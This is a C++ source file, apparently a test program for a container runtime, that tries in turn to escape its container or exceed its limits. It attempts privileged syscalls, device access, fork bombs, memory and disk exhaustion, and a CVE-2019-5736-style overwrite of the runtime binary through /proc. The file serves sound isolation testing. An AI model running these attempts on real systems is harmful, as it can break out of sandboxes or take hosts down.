// SPDX-License-Identifier: Apache-2.0
// A program that runs inside a container in tests and tries to get out of it or to take more than
// it was given. `attacker NAME [ARGUMENT…]` makes one attempt and tells on stdout what came of it,
// as "what: errno name" or "what: done". It judges nothing; the tests do. Linked statically: an
// image needs nothing else.
#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <linux/sched.h>
#include <mqueue.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>
#include <sys/ioctl.h>
#include <sys/klog.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/personality.h>
#include <sys/ptrace.h>
#include <sys/reboot.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/swap.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/timex.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cerrno>
#include <csignal>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <ctime>
#include <initializer_list>

namespace {

constexpr std::size_t kMiB = 1U << 20U;

// Output of a child that forks must not be written twice.
void tell(const char* what, const char* result) {
  std::printf("%s: %s\n", what, result);
  std::fflush(stdout);
}

void tell(const char* what, long result) {
  tell(what, result >= 0 ? "done" : strerrorname_np(errno));
}

int make_socket(int family, int type, int protocol) { return ::socket(family, type, protocol); }

long clone_with(unsigned long flags) {
  const long pid = ::syscall(SYS_clone, flags | SIGCHLD, nullptr, nullptr, nullptr, nullptr);
  if (pid == 0) ::_exit(0);
  if (pid > 0) ::waitpid(static_cast<pid_t>(pid), nullptr, 0);
  return pid;
}

void try_mounts() {
  tell("mount tmpfs", ::mount("none", "/data", "tmpfs", 0, nullptr));
  tell("mount proc", ::mount("none", "/data", "proc", 0, nullptr));
  tell("bind", ::mount("/proc", "/data", nullptr, MS_BIND, nullptr));
  tell("remount", ::mount(nullptr, "/", nullptr, MS_REMOUNT | MS_BIND, nullptr));
  tell("umount", ::umount2("/proc", MNT_DETACH));
  tell("pivot_root", ::syscall(SYS_pivot_root, ".", "."));
  tell("open_tree", ::syscall(SYS_open_tree, AT_FDCWD, "/", 1));
  tell("fsopen", ::syscall(SYS_fsopen, "tmpfs", 0));
  tell("swapon", ::swapon("/bin/busybox", 0));
  tell("quotactl", ::syscall(SYS_quotactl, 0, nullptr, 0, nullptr));
}

void try_namespaces() {
  tell("unshare user", ::unshare(CLONE_NEWUSER));
  tell("unshare mount", ::unshare(CLONE_NEWNS));
  tell("unshare network", ::unshare(CLONE_NEWNET));
  tell("clone user", clone_with(CLONE_NEWUSER));
  tell("clone pid", clone_with(CLONE_NEWPID));
  tell("clone plain", clone_with(0));
  clone_args arguments{};
  arguments.flags = CLONE_NEWUSER;
  tell("clone3", ::syscall(SYS_clone3, &arguments, sizeof arguments));
  const int own = ::open("/proc/self/ns/mnt", O_RDONLY);
  tell("setns", ::setns(own, 0));
}

void try_processes() {
  iovec none{};
  tell("ptrace", ::ptrace(PTRACE_ATTACH, 1, nullptr, nullptr));
  tell("process_vm_readv", ::syscall(SYS_process_vm_readv, 1, &none, 1, &none, 1, 0));
  tell("pidfd_getfd", ::syscall(438, 0, 0, 0));
  tell("kcmp", ::syscall(SYS_kcmp, 1, 1, 0, 0, 0));
}

void try_kernel() {
  bpf_attr program{};
  perf_event_attr event{};
  event.size = sizeof event;
  tell("bpf", ::syscall(SYS_bpf, BPF_MAP_CREATE, &program, sizeof program));
  tell("perf_event_open", ::syscall(SYS_perf_event_open, &event, 0, -1, -1, 0));
  tell("userfaultfd", ::syscall(SYS_userfaultfd, 0));
  tell("init_module", ::syscall(SYS_init_module, nullptr, 0, ""));
  tell("finit_module", ::syscall(SYS_finit_module, 0, "", 0));
  tell("kexec_load", ::syscall(SYS_kexec_load, 0, 0, nullptr, 0));
  tell("reboot", ::reboot(RB_DISABLE_CAD));
  tell("syslog", ::klogctl(3, nullptr, 0));
  tell("acct", ::acct("/data/acct"));
  tell("sethostname", ::sethostname("evil", 4));
  tell("io_uring_setup", ::syscall(SYS_io_uring_setup, 1, nullptr));
  tell("personality", ::personality(ADDR_NO_RANDOMIZE));
}

void try_clocks() {
  timespec now{};
  ::clock_gettime(CLOCK_REALTIME, &now);
  timex change{};
  change.modes = ADJ_OFFSET;
  timeval seconds{.tv_sec = now.tv_sec, .tv_usec = 0};
  tell("clock_settime", ::clock_settime(CLOCK_REALTIME, &now));
  tell("settimeofday", ::settimeofday(&seconds, nullptr));
  tell("adjtimex", ::adjtimex(&change));
}

void try_keys() {
  tell("keyctl", ::syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, -3, 0));
  tell("add_key", ::syscall(SYS_add_key, "user", "evil", "x", 1, -3));
  tell("request_key", ::syscall(SYS_request_key, "user", "evil", nullptr, 0));
  char handle[64] = {};
  tell("open_by_handle_at", ::syscall(SYS_open_by_handle_at, AT_FDCWD, handle, O_RDONLY));
  tell("name_to_handle_at", ::syscall(SYS_name_to_handle_at, AT_FDCWD, "/", handle, handle, 0));
}

void try_sockets() {
  tell("raw", make_socket(AF_INET, SOCK_RAW, IPPROTO_ICMP));
  tell("raw6", make_socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6));
  tell("packet", make_socket(AF_PACKET, SOCK_RAW, 0));
  tell("vsock", make_socket(AF_VSOCK, SOCK_STREAM, 0));
  tell("alg", make_socket(AF_ALG, SOCK_SEQPACKET, 0));
  tell("uevent", make_socket(AF_NETLINK, SOCK_RAW, 15));
  tell("netfilter", make_socket(AF_NETLINK, SOCK_RAW, 12));
  tell("high bits", static_cast<long>(::syscall(SYS_socket, (1UL << 32U) | AF_VSOCK, 1, 0)));
  tell("tcp6", make_socket(AF_INET6, SOCK_STREAM, 0));
  tell("unix", make_socket(AF_UNIX, SOCK_STREAM, 0));
}

void try_devices() {
  tell("mknod disk", ::mknod("/data/disk", S_IFBLK | 0600, makedev(254, 0)));
  tell("mknod memory", ::mknod("/data/memory", S_IFCHR | 0600, makedev(1, 1)));
  tell("mknod in dev", ::mknod("/dev/memory", S_IFCHR | 0600, makedev(1, 1)));
  tell("mknod null", ::mknod("/data/null", S_IFCHR | 0600, makedev(1, 3)));
  for (const char* path : {"/dev/mem", "/dev/kmsg", "/dev/vda", "/dev/sda", "/dev/loop0",
                           "/dev/loop-control", "/dev/fuse", "/dev/net/tun", "/dev/kvm"}) {
    tell(path, ::open(path, O_RDWR));
  }
  tell("/dev/null", ::open("/dev/null", O_RDWR));
}

bool is_null(int fd) {
  struct stat info{};
  return ::fstat(fd, &info) == 0 && S_ISCHR(info.st_mode) && info.st_rdev == makedev(1, 3);
}

// Writing what only the host may write; "masked" if /dev/null lies over it.
void write_into(const char* path, const char* text) {
  const int fd = ::open(path, O_WRONLY);
  if (fd >= 0 && is_null(fd)) return tell(path, "masked");
  long result = fd;
  if (fd >= 0) result = ::write(fd, text, std::strlen(text));
  tell(path, result);
  ::close(fd);
}

void try_rights() {
  tell("setuid", ::setuid(70'000));
  rlimit more{.rlim_cur = 1U << 20U, .rlim_max = 1U << 20U};
  tell("more files", ::setrlimit(RLIMIT_NOFILE, &more));
  tell("nice", ::setpriority(PRIO_PROCESS, 0, -5));
  sched_param first{.sched_priority = 1};
  tell("realtime", ::sched_setscheduler(0, SCHED_FIFO, &first));
  write_into("/proc/self/oom_score_adj", "-1");
}

// What of a file can be read: "empty", "done", or why not.
void read_from(const char* path) {
  char byte = 0;
  const int fd = ::open(path, O_RDONLY);
  const long count = fd < 0 ? fd : ::read(fd, &byte, 1);
  if (count == 0) return tell(path, "empty");
  tell(path, count);
}

void fork_bomb() {
  long children = 0;
  while (true) {
    const pid_t pid = ::fork();
    if (pid == 0) {
      ::pause();
      ::_exit(0);
    }
    if (pid < 0) break;
    ++children;
  }
  std::printf("children: %ld\n", children);
  tell("fork", -1);
}

// Every child goes on forking.
void fork_for_ever() {
  tell("bomb", "done");
  while (true) {
    if (::fork() < 0) ::usleep(1000);
  }
}

void eat_memory(std::size_t mebibytes) {
  for (std::size_t n = 0; n < mebibytes; ++n) {
    void* block = ::mmap(nullptr, kMiB, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (block == MAP_FAILED) return tell("mmap", -1);
    std::memset(block, 1, kMiB);
  }
  tell("memory", "done");
}

// Writes until refused or `mebibytes` are in.
void fill(const char* path, std::size_t mebibytes) {
  static char block[65536];
  std::memset(block, 'x', sizeof block);
  const int fd = ::open(path, O_WRONLY | O_CREAT | O_TRUNC, 0600);
  std::size_t written = 0;
  long count = fd;
  while (count >= 0 && written < mebibytes * kMiB) {
    count = ::write(fd, block, sizeof block);
    if (count > 0) written += static_cast<std::size_t>(count);
  }
  std::printf("written: %zu\n", written);
  tell("fill", count);
}

// With O_DIRECT the disk answers; without, the page cache, until what is written has to be there.
void transfer(const char* path, std::size_t mebibytes, int flags) {
  void* block = nullptr;
  if (::posix_memalign(&block, 4096, kMiB) != 0) return tell("memory", -1);
  std::memset(block, 1, kMiB);
  const int fd = ::open(path, flags, 0600);
  const bool is_read = (flags & O_ACCMODE) == O_RDONLY;
  timespec begun{};
  ::clock_gettime(CLOCK_MONOTONIC, &begun);
  long count = fd;
  for (std::size_t n = 0; n < mebibytes && count >= 0; ++n) {
    count = is_read ? ::read(fd, block, kMiB) : ::write(fd, block, kMiB);
  }
  if (count >= 0) count = ::fsync(fd);
  timespec ended{};
  ::clock_gettime(CLOCK_MONOTONIC, &ended);
  std::printf("milliseconds: %ld\n",
              (ended.tv_sec - begun.tv_sec) * 1000 + (ended.tv_nsec - begun.tv_nsec) / 1'000'000);
  tell("transfer", count);
}

[[noreturn]] void* spin(void*) {
  while (true) {
    for (unsigned n = 0; n < 1'000'000; ++n) asm volatile("");
  }
}

void hog(int threads) {
  tell("hog", "done");
  for (int n = 1; n < threads; ++n) {
    pthread_t thread{};
    ::pthread_create(&thread, nullptr, spin, nullptr);
  }
  spin(nullptr);
}

void show_processors() {
  cpu_set_t own;
  CPU_ZERO(&own);
  ::sched_getaffinity(0, sizeof own, &own);
  std::printf("processors: %d\n", CPU_COUNT(&own));
  for (int n = 0; n < CPU_SETSIZE; ++n) {
    if (CPU_ISSET(n, &own)) continue;
    cpu_set_t other;
    CPU_ZERO(&other);
    CPU_SET(n, &other);
    if (::sched_setaffinity(0, sizeof other, &other) == 0) return tell("other", "done");
  }
  tell("other", "EINVAL");
}

void open_files() {
  long count = 0;
  while (::open("/dev/null", O_RDONLY) >= 0) ++count;
  std::printf("files: %ld\n", count);
  tell("open", -1);
}

// Descriptors beyond the three that a program is given.
void show_descriptors() {
  DIR* folder = ::opendir("/proc/self/fd");
  if (folder == nullptr) return tell("fd", -1);
  long others = 0;
  while (const dirent* entry = ::readdir(folder)) {
    const int fd = std::atoi(entry->d_name);
    if (entry->d_name[0] == '.' || fd < 3 || fd == ::dirfd(folder)) continue;
    ++others;
  }
  std::printf("descriptors: %ld\n", others);
}

void connect_to(const char* host, const char* port) {
  sockaddr_in6 six{};
  six.sin6_family = AF_INET6;
  six.sin6_port = htons(static_cast<std::uint16_t>(std::atoi(port)));
  ::inet_pton(AF_INET6, host, &six.sin6_addr);
  const int fd = ::socket(AF_INET6, SOCK_STREAM, 0);
  const timeval limit{.tv_sec = 2, .tv_usec = 0};
  ::setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof limit);
  tell(host, ::connect(fd, reinterpret_cast<const sockaddr*>(&six), sizeof six));
}

// Waits for a process of the runtime to show up in this container and tries to write into its
// program through /proc (the class of CVE-2019-5736).
void overwrite_runtime() {
  tell("watching", "done");
  while (true) {
    DIR* folder = ::opendir("/proc");
    while (const dirent* entry = folder != nullptr ? ::readdir(folder) : nullptr) {
      const int pid = std::atoi(entry->d_name);
      if (pid <= 1 || pid == ::getpid()) continue;
      char path[64];
      char target[256] = {};
      std::snprintf(path, sizeof path, "/proc/%d/exe", pid);
      if (::readlink(path, target, sizeof target - 1) < 0) continue;
      if (std::strstr(target, "run") == nullptr && std::strstr(target, "memfd") == nullptr)
        continue;
      const int held = ::open(path, O_RDONLY);
      if (held < 0) continue;
      std::snprintf(path, sizeof path, "/proc/self/fd/%d", held);
      // Busy as long as the runtime runs; afterwards writable, if the file is.
      for (int attempt = 0; attempt < 2000; ++attempt) {
        const int fd = ::open(path, O_WRONLY | O_TRUNC);
        if (fd >= 0) {
          (void)!::write(fd, "#!/bin/false\n", 13);
          ::close(fd);
          tell("overwritten", target);
        }
        ::usleep(100);
      }
      ::close(held);
    }
    if (folder != nullptr) ::closedir(folder);
  }
}

// On the host the attempts would succeed.
bool is_confined() {
  const int fd = ::open("/proc/self/uid_map", O_RDONLY);
  unsigned inside = 0;
  unsigned outside = 0;
  char text[128] = {};
  if (fd < 0 || ::read(fd, text, sizeof text - 1) <= 0) return false;
  ::close(fd);
  return std::sscanf(text, "%u %u", &inside, &outside) == 2 && inside == 0 && outside != 0;
}

// Attempts at what no program in a container may do.
void ask_kernel(const char* name) {
  const auto is = [name](const char* wanted) { return std::strcmp(name, wanted) == 0; };
  if (is("mounts")) try_mounts();
  if (is("namespaces")) try_namespaces();
  if (is("processes")) try_processes();
  if (is("kernel")) try_kernel();
  if (is("clocks")) try_clocks();
  if (is("keys")) try_keys();
  if (is("sockets")) try_sockets();
  if (is("devices")) try_devices();
  if (is("rights")) try_rights();
}

// Attempts at more than was given.
void take(const char* name, int count, char** arguments) {
  const auto is = [name, count](const char* wanted, int least) {
    return std::strcmp(name, wanted) == 0 && count >= least;
  };
  const auto number = [arguments](int at) {
    return static_cast<std::size_t>(std::strtoul(arguments[at], nullptr, 10));
  };
  for (int n = 0; n < count; ++n) {
    if (is("write", 1)) write_into(arguments[n], "1");
    if (is("read", 1)) read_from(arguments[n]);
  }
  if (is("fork", 0)) fork_bomb();
  if (is("bomb", 0)) fork_for_ever();
  if (is("memory", 1)) eat_memory(number(0));
  if (is("fill", 2)) fill(arguments[0], number(1));
  constexpr int kWrite = O_WRONLY | O_CREAT;
  if (is("direct-read", 2)) transfer(arguments[0], number(1), O_RDONLY | O_DIRECT);
  if (is("direct-write", 2)) transfer(arguments[0], number(1), kWrite | O_DIRECT);
  if (is("cached-write", 2)) transfer(arguments[0], number(1), kWrite);
  if (is("hog", 1)) hog(static_cast<int>(number(0)));
  if (is("processors", 0)) show_processors();
  if (is("ids", 0)) std::printf("user: %u\ngroup: %u\n", ::geteuid(), ::getegid());
  if (is("files", 0)) open_files();
  if (is("descriptors", 0)) show_descriptors();
  if (is("connect", 2)) connect_to(arguments[0], arguments[1]);
  if (is("kill", 1)) tell("kill", ::kill(static_cast<pid_t>(number(0)), SIGKILL));
  if (is("overwrite", 0)) overwrite_runtime();
  if (is("wait", 0)) {
    tell("waiting", "done");
    ::pause();
  }
}

}  // namespace

int main(int count, char** arguments) {
  if (!is_confined()) {
    tell("attacker", "not in a container");
    return 2;
  }
  for (int n = 1; n < count; ++n) ask_kernel(arguments[n]);
  if (count > 1) take(arguments[1], count - 2, arguments + 2);
  return 0;
}
